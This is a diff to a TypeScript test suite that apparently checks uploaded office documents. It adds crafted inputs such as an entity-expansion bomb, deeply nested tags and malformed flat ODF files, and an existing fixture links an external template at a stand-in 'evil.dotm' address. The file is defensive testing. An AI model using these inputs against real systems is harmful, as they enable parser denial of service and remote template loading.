@@ -35,6 +35,9 @@ const docx = (body: string, more: Record<string, string> = {}) =>
     ...more,
   });
 
+const flat = (kind: string, inner: string) =>
+  `<?xml version="1.0"?><office:document xmlns:x="x" office:mimetype="application/vnd.oasis.opendocument.${kind}">${inner}</office:document>`;
+
 const PARAGRAPH = '<w:p><w:r><w:t>Review the adverts</w:t></w:r></w:p>';
 const TEMPLATE =
   '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>';
@@ -114,6 +117,25 @@ const CASES: [string, string, () => Uint8Array, string][] = [
         ...[...'WordDocument'].flatMap((sign) => [sign.charCodeAt(0), 0]),
       ]),
     'document-old-format',
+  ],
+  [
+    'Word as one XML file',
+    'a.xml',
+    () => encode('<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>'),
+    'document-old-format',
+  ],
+  [
+    'flat odt with entities that multiply',
+    'a.fodt',
+    () => encode(flat('text', `${LAUGHS}<x>&c;</x>`)),
+    'document-too-complex',
+  ],
+  ['flat ods with an unclosed tag', 'a.fods', () => encode(flat('spreadsheet', '<table:table')), 'document-unreadable'],
+  [
+    'odp nested 100,000 deep',
+    'a.fodp',
+    () => encode(flat('presentation', `<office:presentation>${'<draw:g>'.repeat(DEEP)}`)),
+    'document-too-complex',
   ],
   ['rich text', 'a.rtf', () => encode('{\\rtf1 Review}'), 'document-old-format'],
   ['Pages', 'a.pages', () => zip({ 'Index/Document.iwa': 'x' }), 'document-old-format'],
